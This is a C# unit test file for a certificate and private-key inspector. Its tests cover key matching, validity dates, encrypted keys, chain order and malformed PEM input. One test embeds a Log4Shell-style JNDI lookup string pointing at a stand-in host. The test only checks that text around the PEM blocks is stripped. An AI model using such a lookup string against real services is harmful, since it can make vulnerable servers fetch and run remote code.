using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Fulcrum.Core.Certificates;
using Fulcrum.Core.Validation;

namespace Fulcrum.Core.Tests.Certificates;

public sealed class CertificateInspectorTests
{
    private static readonly DateTimeOffset NotBefore = new(2030, 1, 1, 0, 0, 0, TimeSpan.Zero);
    private static readonly DateTimeOffset NotAfter = new(2031, 1, 1, 0, 0, 0, TimeSpan.Zero);
    private static readonly DateTimeOffset Now = new(2030, 6, 1, 12, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Inspect_RsaPair_AcceptedWithSubjectSansAndFingerprint()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test, O=Fulcrum Tests", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=shop.example.test, O=Fulcrum Tests", inspected.Info.Subject);
        Assert.Equal("CN=shop.example.test, O=Fulcrum Tests", inspected.Info.Issuer);
        Assert.Equal(["shop.example.test", "www.shop.example.test", "192.0.2.10", "2001:db8::10"], inspected.Info.SubjectAlternativeNames);
        Assert.Equal(NotBefore, inspected.Info.NotBefore);
        Assert.Equal(NotAfter, inspected.Info.NotAfter);
        Assert.Equal(certificate.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Matches("^[0-9a-f]{64}$", inspected.Info.FingerprintSha256);
    }

    [Fact]
    public void Inspect_EcdsaPair_AcceptedAndReEncoded()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=api.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportECPrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=api.example.test", inspected.Info.Subject);
        Assert.Equal(certificate.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Equal(certificate.ExportCertificatePem() + "\n", inspected.ChainPem);
        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        Assert.EndsWith("-----END PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        using var returnedKey = ECDsa.Create();
        returnedKey.ImportFromPem(inspected.PrivateKeyPem);
        Assert.Equal(key.ExportSubjectPublicKeyInfo(), returnedKey.ExportSubjectPublicKeyInfo());
    }

    [Fact]
    public void Inspect_RsaPkcs1Key_ReturnedAsPkcs8()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=legacy.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportRSAPrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        using var returnedKey = RSA.Create();
        returnedKey.ImportFromPem(inspected.PrivateKeyPem);
        Assert.Equal(key.ExportSubjectPublicKeyInfo(), returnedKey.ExportSubjectPublicKeyInfo());
    }

    [Fact]
    public void Inspect_KeyOfAnotherCertificate_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var otherKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), otherKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["does not match the certificate: its public key differs from the leaf certificate's."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_RsaKeyForEcdsaCertificate_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var rsa = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), rsa.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_PublicKeyInsteadOfPrivateKey_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportSubjectPublicKeyInfoPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_ExpiredLeaf_RejectedOnCertificatePemWithItsEndDate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=old.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotAfter.AddSeconds(1));

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["has expired: the certificate ended on 2031-01-01 00:00:00 UTC."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_NotYetValidLeaf_RejectedOnCertificatePemWithItsStartDate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=new.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotBefore.AddSeconds(-1));

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["is not valid yet: the certificate starts on 2030-01-01 00:00:00 UTC."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_AtTheFirstAndLastInstantOfValidity_Accepted()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=edge.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotBefore));
        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotAfter));
        Assert.True(errors.IsEmpty);
    }

    [Fact]
    public void Inspect_ExpiredAndWrongKey_BothReported()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var otherKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=old.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), otherKey.ExportPkcs8PrivateKeyPem(), NotAfter.AddDays(1));

        Assert.Equal(["certificatePem", "privateKeyPem"], errors.Paths());
    }

    [Theory]
    [InlineData("hello")]
    [InlineData("")]
    [InlineData("-----BEGIN CERTIFICATE-----\nnot base64 at all!\n-----END CERTIFICATE-----\n")]
    [InlineData("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")]
    public void Inspect_NoCertificateBlock_RejectedOnCertificatePem(string certificatePem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificatePem, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["must hold 1 to 10 PEM 'CERTIFICATE' blocks, the leaf first."], errors.MessagesAt("certificatePem"));
    }

    [Theory]
    [InlineData("-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n")]
    [InlineData("-----BEGIN CERTIFICATE-----\ndGhpcyBpcyBub3QgYSBERVIgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n")]
    public void Inspect_CertificateBlockThatIsNotDer_RejectedOnCertificatePem(string certificatePem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificatePem, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["is not a valid PEM certificate chain."], errors.MessagesAt("certificatePem"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("hello")]
    [InlineData("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")]
    public void Inspect_GarbageKey_RejectedOnPrivateKeyPem(string privateKeyPem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), privateKeyPem, Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["is not an unencrypted PEM RSA or EC private key."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_CertificateAsKey_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), certificate.ExportCertificatePem(), Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_KeyInsideCertificatePem_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var bundle = certificate.ExportCertificatePem() + "\n" + key.ExportPkcs8PrivateKeyPem();

        var inspected = CertificateInspector.Inspect(errors, bundle, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["holds a private key: send the key in privateKeyPem only."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_EncryptedPkcs8Key_RejectedAskingForAnUnencryptedKey()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var encrypted = key.ExportEncryptedPkcs8PrivateKeyPem("passphrase", new PbeParameters(PbeEncryptionAlgorithm.Aes256Cbc, HashAlgorithmName.SHA256, 1_000));

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), encrypted, Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["is encrypted: send the key without a passphrase (it is encrypted at rest by Fulcrum)."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_LegacyEncryptedPemKey_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var legacy = "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00112233445566778899AABBCCDDEEFF\n\nAAAA\n-----END EC PRIVATE KEY-----\n";

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), legacy, Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.StartsWith("is encrypted", Assert.Single(errors.MessagesAt("privateKeyPem")), StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_LeafAndIssuer_ChainKeptInOrderAndInfoFromTheLeaf()
    {
        using var ca = CertificateAuthority();
        using var leafKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var leafRequest = new CertificateRequest("CN=shop.example.test", leafKey, HashAlgorithmName.SHA256);
        leafRequest.CertificateExtensions.Add(SubjectAlternativeNames());
        using var leaf = leafRequest.Create(ca, NotBefore, NotAfter, [1, 2, 3, 4]);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, leaf.ExportCertificatePem() + "\n" + ca.ExportCertificatePem(), leafKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=shop.example.test", inspected.Info.Subject);
        Assert.Equal("CN=Fulcrum Test CA", inspected.Info.Issuer);
        Assert.Equal(leaf.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Equal(leaf.ExportCertificatePem() + "\n" + ca.ExportCertificatePem() + "\n", inspected.ChainPem);
        var returned = new X509Certificate2Collection();
        returned.ImportFromPem(inspected.ChainPem);
        Assert.Equal([leaf.Thumbprint, ca.Thumbprint], returned.Select(certificate => certificate.Thumbprint));
    }

    [Fact]
    public void Inspect_IssuerFirst_KeyComparedWithTheFirstCertificate()
    {
        using var ca = CertificateAuthority();
        using var leafKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var leaf = new CertificateRequest("CN=shop.example.test", leafKey, HashAlgorithmName.SHA256).Create(ca, NotBefore, NotAfter, [5, 6, 7]);
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, ca.ExportCertificatePem() + "\n" + leaf.ExportCertificatePem(), leafKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_MoreThanTenCertificates_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, string.Concat(Enumerable.Repeat(certificate.ExportCertificatePem() + "\n", 10)), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Null(CertificateInspector.Inspect(errors, string.Concat(Enumerable.Repeat(certificate.ExportCertificatePem() + "\n", 11)), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Equal(["must hold 1 to 10 PEM 'CERTIFICATE' blocks, the leaf first."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_TextAroundThePemBlocks_NotInTheReturnedPems()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();
        var certificatePem = "Bag Attributes\n    localKeyID: 01 00 00 00\nsubject=/CN=shop.example.test\n"
            + certificate.ExportCertificatePem()
            + "\n# pasted from the wiki\n${jndi:ldap://evil.example/a}\n";
        var privateKeyPem = "Key Attributes: <No Attributes>\n"
            + key.ExportPkcs8PrivateKeyPem()
            + "\nbackend x\n    server s 10.6.6.6:80\n";

        var inspected = CertificateInspector.Inspect(errors, certificatePem, privateKeyPem, Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal(certificate.ExportCertificatePem() + "\n", inspected.ChainPem);
        foreach (var outside in new[] { "Bag Attributes", "localKeyID", "subject=", "wiki", "jndi", "Key Attributes", "backend x", "10.6.6.6" })
        {
            Assert.DoesNotContain(outside, inspected.ChainPem, StringComparison.Ordinal);
            Assert.DoesNotContain(outside, inspected.PrivateKeyPem, StringComparison.Ordinal);
        }

        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        Assert.EndsWith("-----END PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
    }

    private static X509Certificate2 SelfSigned(CertificateRequest request)
    {
        request.CertificateExtensions.Add(SubjectAlternativeNames());
        return request.CreateSelfSigned(NotBefore, NotAfter);
    }

    private static X509Certificate2 CertificateAuthority()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP384);
        var request = new CertificateRequest("CN=Fulcrum Test CA", key, HashAlgorithmName.SHA384);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        request.CertificateExtensions.Add(new X509KeyUsageExtension(X509KeyUsageFlags.KeyCertSign, true));
        return request.CreateSelfSigned(NotBefore.AddYears(-1), NotAfter.AddYears(1));
    }

    private static X509Extension SubjectAlternativeNames()
    {
        var names = new SubjectAlternativeNameBuilder();
        names.AddDnsName("shop.example.test");
        names.AddDnsName("www.shop.example.test");
        names.AddIpAddress(IPAddress.Parse("192.0.2.10"));
        names.AddIpAddress(IPAddress.Parse("2001:db8::10"));
        return names.Build();
    }
}
